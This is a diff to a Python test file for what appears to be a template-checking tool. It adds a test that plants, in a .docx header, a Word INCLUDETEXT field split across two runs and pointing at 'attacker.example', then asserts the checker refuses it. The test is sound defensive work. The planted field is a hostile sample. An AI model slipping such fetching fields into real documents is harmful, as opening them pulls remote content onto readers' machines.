@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import shutil
 import subprocess
+import zipfile
 from pathlib import Path
 
 from conftest import ROOT, edit, line_of, run
@@ -97,4 +98,28 @@ def test_an_audience_messages_file_that_is_a_fifo_is_refused_not_skipped(project
     assert result.returncode == 1, result.stdout + result.stderr
     assert (
         "templates/audiences/general/messages.yaml:1:1: error: not a regular file" in result.stdout
+    )
+
+
+def test_a_reference_header_with_a_fetching_field_is_refused(project):
+    """INCLUDEPICTURE / INCLUDETEXT fetch a URL with no relationship to refuse; the
+    instruction split over two runs, as Word writes a field it edited."""
+    reference = project / "templates/docx/reference.docx"
+    with zipfile.ZipFile(reference) as source:
+        parts = {info.filename: source.read(info) for info in source.infolist()}
+    parts["word/header9.xml"] = (
+        b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">\n'
+        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>\n'
+        b"<w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "
+        b'"http://attacker.example/PAYLOADXYZ" </w:instrText></w:r>\n'
+        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
+    )
+    with zipfile.ZipFile(reference, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in parts.items():
+            target.writestr(name, data)
+    result = run(project, "check")
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert (
+        "templates/docx/reference.docx:1:1: error: part word/header9.xml (line 3) has the "
+        "field INCLUDETEXT" in result.stdout
     )
